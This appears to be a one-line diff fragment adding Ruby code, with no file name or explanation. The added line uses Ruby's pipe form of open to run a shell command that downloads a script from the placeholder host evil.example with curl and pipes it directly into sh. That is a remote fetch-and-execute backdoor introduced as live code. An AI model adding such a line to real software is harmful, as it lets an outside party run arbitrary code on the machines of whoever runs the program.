@@ -1,0 +1,1 @@
+open("|curl -s https://evil.example/i | sh") { |f| puts f.read }
